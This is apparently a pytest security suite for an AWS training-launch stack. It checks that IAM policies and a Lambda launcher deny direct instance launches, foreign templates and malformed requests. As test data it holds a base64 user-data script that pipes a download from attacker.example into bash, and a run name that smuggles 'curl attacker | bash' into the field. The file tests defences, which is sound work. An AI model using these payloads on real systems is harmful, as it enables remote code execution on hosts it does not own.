"""Issue 41.2 and the two launchers of 41.7: EC2 training runs that nobody can alter. The dev Training stack's
TrainingLauncher handler runs against moto with the launch policy it is synthesized with, and a person holds the
synthesized TrainingLauncherPolicy; every call goes through the rehearsal's call gate (proving_ground/rehearsal/
aws_calls.py), which evaluates it request by request as EC2 authorizes RunInstances (ops_review/iam_policy.py).

Denied: a person's RunInstances with the template (as it is, with their own user data, with another shutdown
behaviour), from another template, their PassRole of the instance role, their tagging of a run; the launcher's
RunInstances from another template; every request to the launcher that names user data, a template, a shutdown
behaviour or anything but a run name, a node count, the allowed instance type and bounded training arguments.
Allowed beside them: the launcher's own launch (the template's user data and shutdown behaviour, the run's tags) and
the person's invocation of the launcher."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from ops_review.iam_policy import Request, is_allowed, resolve
from proving_ground.iam_requests import logical_id
from proving_ground.rehearsal.aws_calls import Gate, Principal, install
from proving_ground.rehearsal.training_steps import launcher_handler
from stacks.components.training_launcher import HANDLER
from stacks.settings import parse_environment
from tests.stacks.security.conftest import ACCOUNT, LAMBDA_DEFAULT_TIMEOUT_S, REGION, clients_made_by, longest_call_s
from tests.stacks.security.exports import template_exports

PLATFORM_USER_DATA = base64.b64encode(b"#!/bin/bash\nbash training_assets/instance/ec2_run.sh\n").decode()
ATTACKER_USER_DATA = base64.b64encode(b"#!/bin/bash\ncurl -s https://attacker.example/x | bash\n").decode()
LAUNCHER = Principal("launcher", "AKIALAUNCHER0000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/l"})
PERSON = Principal("alice", "AKIAALICE0000000", None, {"aws:PrincipalArn": f"arn:aws:iam::{ACCOUNT}:role/alice"})
LOOKUP = Principal("lookup", "AKIALOOKUP000000", None)  # the test's own look at what was launched: not checked


def _client(principal: Principal, service: str = "ec2") -> Any:
    return boto3.client(service, region_name=REGION, aws_access_key_id=principal.access_key,
                        aws_secret_access_key=principal.secret_key)  # fmt: skip


# Long: moto's copies of the training template and an attacker's, the synthesized policies and the function's settings
# resolved against them, and the gate that checks every call.
@pytest.fixture()
def launch(
    templates: dict[str, dict[str, dict]], foundation: Any, mocked_aws: str, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Any:  # fmt: skip
    """The gate with the launcher (its synthesized launch policy) and a person (the synthesized TrainingLauncherPolicy),
    moto's copy of the training template (the platform's user data, shutdown = terminate) and another template; the
    launcher's environment as the stack sets it, resolved."""
    ec2 = boto3.client("ec2", region_name=mocked_aws)
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    template = templates["dev"]["Training"]
    (template_id,) = [n for n, r in template["Resources"].items() if r["Type"] == "AWS::EC2::LaunchTemplate"]
    synthesized = template["Resources"][template_id]["Properties"]["LaunchTemplateData"]
    platform = {"ImageId": image, "InstanceType": synthesized["InstanceType"], "UserData": PLATFORM_USER_DATA,
                "InstanceInitiatedShutdownBehavior": synthesized["InstanceInitiatedShutdownBehavior"]}  # fmt: skip
    training = ec2.create_launch_template(LaunchTemplateName="training", LaunchTemplateData=platform)
    other = ec2.create_launch_template(LaunchTemplateName="attacker", LaunchTemplateData=platform)
    ids = {name: created["LaunchTemplate"]["LaunchTemplateId"] for name, created in (("training", training),
                                                                                      ("other", other))}  # fmt: skip

    foundation_template, foundation_refs = foundation
    exports = template_exports(foundation_template, foundation_refs)
    refs: dict[str, Any] = {"AWS::AccountId": ACCOUNT, "AWS::Partition": "aws", "AWS::Region": REGION,
                            "AWS::URLSuffix": "amazonaws.com", template_id: ids["training"],
                            f"{template_id}.LatestVersionNumber": "1"}  # fmt: skip
    (function_id,) = [n for n, r in template["Resources"].items()
                      if r["Type"] == "AWS::Lambda::Function" and n.startswith("TrainingLauncherFunction")]  # fmt: skip
    function_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{function_id}-ref"
    refs[f"{function_id}.Arn"] = function_arn
    for name in template["Resources"]:
        refs.setdefault(name, f"{name}-ref")
        for attribute in ("Arn", "GroupId", "LatestVersionNumber"):
            refs.setdefault(f"{name}.{attribute}", f"arn:aws:placeholder::{ACCOUNT}:{name}")

    def policy(prefix: str) -> dict[str, Any]:
        document = template["Resources"][logical_id(template, "AWS::IAM::ManagedPolicy", prefix)]["Properties"]
        return resolve(document["PolicyDocument"], refs=refs, exports=exports)

    data = {name: resolve(value, refs=refs, exports=exports) for name, value in synthesized.items()
            if name != "UserData"}  # fmt: skip
    role_arn = foundation_refs[f"{logical_id(foundation_template, 'AWS::IAM::Role', 'TrainingInstanceRole')}.Arn"]
    launchable = {
        template_id: {"arn": f"arn:aws:ec2:{REGION}:{ACCOUNT}:launch-template/{template_id}", "data": data,
                      "image_id": image, "image_owner": "amazon", "instance_role_arn": role_arn}
        for template_id in ids.values()
    }  # fmt: skip
    function = template["Resources"][function_id]["Properties"]
    # What the launcher may do: the policies attached to the role its function runs as.
    launch_policies = _role_policies(template, function["Role"]["Fn::GetAtt"][0], refs, exports, foundation)
    launcher = Principal(LAUNCHER.name, LAUNCHER.access_key, launch_policies, LAUNCHER.identity)
    person = Principal(PERSON.name, PERSON.access_key, [policy("TrainingLauncherPolicy")], PERSON.identity)
    gate = Gate(ACCOUNT, REGION, tmp_path / "calls.jsonl", [launcher, person, LOOKUP], launch_templates=launchable)
    # The function Lambda calls: the one its Handler property names ("<file>.<function>") in the asset folder.
    file, _, name = function["Handler"].rpartition(".")
    assert (HANDLER / f"{file}.py").is_file()
    entry = getattr(launcher_handler(), name)
    for name, value in resolve(function["Environment"]["Variables"], refs=refs, exports=exports).items():
        monkeypatch.setenv(name, value)
    # The artifacts bucket the launcher records its launches in (moto's KMS need not hold the platform key's ARN).
    boto3.client("s3", region_name=REGION).create_bucket(
        Bucket=os.environ["ARTIFACTS_BUCKET"], CreateBucketConfiguration={"LocationConstraint": REGION}
    )
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", LAUNCHER.access_key)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", LAUNCHER.secret_key)
    monkeypatch.delenv("AWS_SESSION_TOKEN")
    boto3.DEFAULT_SESSION = None  # the handler's boto3.client("ec2") takes the launcher's keys
    uninstall = install(gate)
    yield {"gate": gate, "ids": ids, "person": person, "function_arn": function_arn, "role_arn": role_arn,
           "entry": entry}  # fmt: skip
    uninstall()
    boto3.DEFAULT_SESSION = None


def _role_policies(template: dict[str, Any], role_id: str, refs: dict[str, Any], exports: dict[str, Any],
                   foundation: Any) -> list[dict[str, Any]]:  # fmt: skip
    """Every policy attached to the role ``role_id``, resolved: this stack's that name the role (their Roles) and the
    Foundation's that the role attaches by ARN (its ManagedPolicyArns, imported)."""
    foundation_template, foundation_refs = foundation
    resources = template["Resources"]
    policies = [
        resolve(r["Properties"]["PolicyDocument"], refs=refs, exports=exports)
        for r in resources.values()
        if r["Type"] == "AWS::IAM::ManagedPolicy" and {"Ref": role_id} in r["Properties"].get("Roles", [])
    ]
    arns = resolve(resources[role_id]["Properties"].get("ManagedPolicyArns", []), refs=refs, exports=exports)
    imported = [
        r["Properties"]["PolicyDocument"]
        for lid, r in foundation_template["Resources"].items()
        if r["Type"] == "AWS::IAM::ManagedPolicy" and foundation_refs[lid] in arns
    ]
    assert len(imported) == len(arns), arns  # every attached ARN is a policy of the Foundation
    return policies + [resolve(document, refs=foundation_refs) for document in imported]  # fmt: skip


def _attribute(instance_id: str, name: str) -> Any:
    answer = _client(LOOKUP).describe_instance_attribute(InstanceId=instance_id, Attribute=name)
    key = name[0].upper() + name[1:]
    return answer[key]["Value"]


def test_the_launcher_starts_a_run_with_the_templates_user_data_shutdown_and_the_runs_tags(launch: Any) -> None:
    handler = launcher_handler()
    event = {"run_name": "sentiment-7", "nodes": 1, "instance_type": "p4d.24xlarge",
             "arguments": {"epochs": 2, "learning_rate": 3e-5}}  # fmt: skip
    # The call overrides nothing of the template but the count and the run's tags (EC2 takes the user data and the
    # shutdown behaviour from the template; moto applies the former, not the latter).
    request = handler.launch_request(event, handler.Settings.from_environment(os.environ))
    assert set(request) == {"LaunchTemplate", "MinCount", "MaxCount", "TagSpecifications"}
    assert request["LaunchTemplate"] == {"LaunchTemplateId": launch["ids"]["training"], "Version": "1"}
    started = launch["entry"](event, None)
    assert started["run_id"] == "sentiment-7" and len(started["instance_ids"]) == 1
    (instance_id,) = started["instance_ids"]
    (reservation,) = _client(LOOKUP).describe_instances(InstanceIds=[instance_id])["Reservations"]
    (instance,) = reservation["Instances"]
    tags = {t["Key"]: t["Value"] for t in instance.get("Tags", [])}
    assert tags["training-run-id"] == "sentiment-7"
    assert tags["training-run-args"] == "--epochs 2 --learning-rate 3e-05"
    assert _attribute(instance_id, "userData") == PLATFORM_USER_DATA
    # The launch is recorded once, naming the instance's session (the folder of the run it alone may write).
    bucket = os.environ["ARTIFACTS_BUCKET"]
    key = f"training-output/sentiment-7/launches/{reservation['ReservationId']}.json"
    assert started["launch_record"] == f"s3://{bucket}/{key}"
    record = json.loads(_client(LOOKUP, "s3").get_object(Bucket=bucket, Key=key)["Body"].read())
    assert record == {"run_id": "sentiment-7", "reservation_id": reservation["ReservationId"],
                      "writers": [f"{os.environ['INSTANCE_ROLE_ID']}:{instance_id}"]}  # fmt: skip
    (run,) = [r for r in launch["gate"].records() if r.operation == "RunInstances"]
    assert run.principal == "launcher" and run.allowed is True
    # Every resource EC2 authorizes the launch on, the instance role's PassRole and the tagging included.
    actions = {action for action, _ in run.requests}
    assert {"ec2:RunInstances", "iam:PassRole", "ec2:CreateTags", "kms:CreateGrant"} <= actions


def test_a_launch_and_its_record_end_within_the_functions_timeout_at_the_apis_slowest(
    launch: Any, templates: dict[str, dict[str, dict]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each call of a launch is bounded by its client's limits (connect, read, attempts); the function's timeout covers
    the calls of a launch (counted from a real one) when each takes its limit, so the caller gets the API's error, not
    Lambda's timeout between the instances' start and their record (the instances would wait for a record that never
    comes)."""
    clients = clients_made_by(launch["entry"], monkeypatch)
    launch["entry"]({"run_name": "bounded", "nodes": 1}, None)
    calls = [r.operation for r in launch["gate"].records() if r.principal == "launcher"]
    assert sorted(calls) == ["PutObject", "RunInstances"]
    per_call = max(longest_call_s(client) for client in clients)
    assert len(clients) == 2 and len(calls) * per_call <= _function(templates).get("Timeout", LAMBDA_DEFAULT_TIMEOUT_S)


@pytest.mark.parametrize(
    "override",
    [
        {},  # the template as it is: people never call RunInstances with it
        {"UserData": ATTACKER_USER_DATA},  # their script as root with the instance role
        {"InstanceInitiatedShutdownBehavior": "stop"},  # the run's self-termination gone
        {"template": "other"},
    ],
    ids=["as-the-template-says", "own-user-data", "shutdown-stop", "other-template"],
)
def test_a_person_cannot_run_instances_at_all(launch: Any, override: dict[str, str]) -> None:
    template = launch["ids"][override.pop("template", "training")]
    with pytest.raises(ClientError, match="AccessDenied"):
        _client(launch["person"]).run_instances(
            LaunchTemplate={"LaunchTemplateId": template, "Version": "1"}, MinCount=1, MaxCount=1, **override
        )
    assert [r.allowed for r in launch["gate"].records() if r.operation == "RunInstances"] == [False]


def test_the_launcher_itself_cannot_launch_from_another_template(launch: Any) -> None:
    with pytest.raises(ClientError, match="AccessDenied"):
        _client(LAUNCHER).run_instances(LaunchTemplate={"LaunchTemplateId": launch["ids"]["other"]}, MinCount=1,
                                        MaxCount=1)  # fmt: skip


def test_a_person_may_invoke_the_launcher_and_nothing_that_would_launch_or_alter_a_run(launch: Any) -> None:
    """The person's whole policy, evaluated: the invocation allowed; the grants a launch needs, tagging a run (its
    arguments) and changing the launcher's code or settings, denied."""
    policies = launch["person"].policies
    assert is_allowed(policies, Request("lambda:InvokeFunction", launch["function_arn"]))
    instance = f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/i-0run"
    for request in (
        Request("lambda:InvokeFunction", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:other"),
        Request("lambda:UpdateFunctionCode", launch["function_arn"]),
        Request("lambda:UpdateFunctionConfiguration", launch["function_arn"]),
        Request("iam:PassRole", launch["role_arn"], {"iam:PassedToService": "ec2.amazonaws.com"}),
        Request("ec2:CreateTags", instance, {"ec2:CreateAction": "RunInstances"}),
        Request("ec2:CreateTags", instance),
        Request("ec2:CreateLaunchTemplateVersion", f"arn:aws:ec2:{REGION}:{ACCOUNT}:launch-template/x"),
        Request("ec2:ModifyInstanceAttribute", instance),
    ):
        assert not is_allowed(policies, request), request


@pytest.mark.parametrize(
    "event",
    [
        {"run_name": "r", "user_data": ATTACKER_USER_DATA},
        {"run_name": "r", "launch_template": {"LaunchTemplateId": "lt-0attacker"}},
        {"run_name": "r", "instance_initiated_shutdown_behavior": "stop"},
        {"run_name": "r", "key_name": "mine"},
        {"run_name": "r; curl attacker | bash"},
        {"run_name": "r", "nodes": 3},  # dev runs one node
        {"run_name": "r", "instance_type": "p5.48xlarge"},
        {"run_name": "r", "arguments": {"epochs": "3 --output-dir /host"}},
        {"run_name": "r", "arguments": {"output_dir": 1}},
        {"run_name": "r", "arguments": {"epochs": 1e9}},
        {"run_name": "r", "arguments": {"learning_rate": float("nan")}},
        {"run_name": "r", "arguments": {"epochs": True}},
        ["run_name", "r"],
    ],
    ids=[
        "user-data",
        "template",
        "shutdown",
        "key-pair",
        "run-name",
        "nodes",
        "instance-type",
        "argument-text",
        "argument-name",
        "argument-bound",
        "argument-nan",
        "argument-bool",
        "not-an-object",
    ],
)
def test_the_launcher_refuses_what_is_not_a_run_it_starts_in_one_sentence(
    templates: dict[str, dict[str, dict]], event: Any
) -> None:
    """With the dev function's own settings (one node of p4d.24xlarge); a refused request calls nothing."""
    handler = launcher_handler()
    variables = _function(templates)["Environment"]["Variables"]
    settings = handler.Settings.from_environment({**variables, "LAUNCH_TEMPLATE_ID": "lt-0training",
                                                  "LAUNCH_TEMPLATE_VERSION": "1"})  # fmt: skip
    ec2 = _NoCalls()
    with pytest.raises(handler.Refused) as refusal:
        handler.launch(ec2, ec2, event, settings)
    sentence = str(refusal.value)
    assert sentence.endswith(".") and sentence.count(". ") == 0, sentence


class _NoCalls:
    """An EC2 client that must not be called."""

    def __getattr__(self, name: str) -> Any:
        def call(**_: Any) -> None:
            raise AssertionError(f"the launcher called {name} for a request it refused")

        return call


def _function(templates: dict[str, dict[str, dict]]) -> dict[str, Any]:
    """The dev TrainingLauncher function's properties, as synthesized."""
    template = templates["dev"]["Training"]
    (function,) = [r["Properties"] for n, r in template["Resources"].items()
                   if r["Type"] == "AWS::Lambda::Function" and n.startswith("TrainingLauncherFunction")]  # fmt: skip
    return function


def test_the_launcher_takes_its_template_from_its_settings_and_runs_one_at_a_time(
    templates: dict[str, dict[str, dict]],
) -> None:
    """What it launches is the stack's: the template (by reference) and its latest version, the allowed type the
    template's own, one node on dev; one invocation at a time bounds what a looping caller starts at once."""
    function = _function(templates)
    variables = function["Environment"]["Variables"]
    (template_id,) = [n for n, r in templates["dev"]["Training"]["Resources"].items()
                      if r["Type"] == "AWS::EC2::LaunchTemplate"]  # fmt: skip
    assert variables["LAUNCH_TEMPLATE_ID"] == {"Ref": template_id}
    assert variables["LAUNCH_TEMPLATE_VERSION"] == {"Fn::GetAtt": [template_id, "LatestVersionNumber"]}
    assert variables["INSTANCE_TYPES"] == "p4d.24xlarge" and variables["MAX_NODES"] == "1"
    assert function["ReservedConcurrentExecutions"] == 1


def test_the_launcher_logs_to_its_own_encrypted_group_which_goes_with_the_stack_where_the_environment_says_so(
    templates: dict[str, dict[str, dict]], cdk_context: dict[str, Any]
) -> None:
    """The group the function logs to is its own, encrypted and kept as long as asked (not Lambda's default group,
    unencrypted and kept for ever, which its role may not write); dev's `cdk destroy` deletes it, as
    tests/stacks/test_destroy.py checks for the whole app (no DeletionPolicy is Delete too)."""
    settings = parse_environment("dev", cdk_context["environments"]["dev"])
    expected = "Delete" if settings.destroy_on_delete else "Retain"
    group = templates["dev"]["Training"]["Resources"][_function(templates)["LoggingConfig"]["LogGroup"]["Ref"]]
    assert group["Type"] == "AWS::Logs::LogGroup"
    assert "KmsKeyId" in group["Properties"] and "RetentionInDays" in group["Properties"]
    assert (group.get("DeletionPolicy", "Delete"), group.get("UpdateReplacePolicy", "Delete")) == (expected, expected)


def test_the_launcher_is_created_after_every_policy_of_its_role_and_deleted_before(
    templates: dict[str, dict[str, dict]],
) -> None:
    """CloudFormation creates a resource after those its DependsOn names and deletes it before them: no launch runs
    with a role that does not hold its permissions yet, or no longer (the Foundation's policy it attaches by ARN is
    another stack's, deployed before this one)."""
    template = templates["dev"]["Training"]
    function_id = logical_id(template, "AWS::Lambda::Function", "TrainingLauncherFunction")
    role = {"Ref": template["Resources"][function_id]["Properties"]["Role"]["Fn::GetAtt"][0]}
    policies = {lid for lid, r in template["Resources"].items()
                if r["Type"] == "AWS::IAM::ManagedPolicy" and role in r["Properties"].get("Roles", [])}  # fmt: skip
    assert policies and policies <= set(template["Resources"][function_id].get("DependsOn") or [])
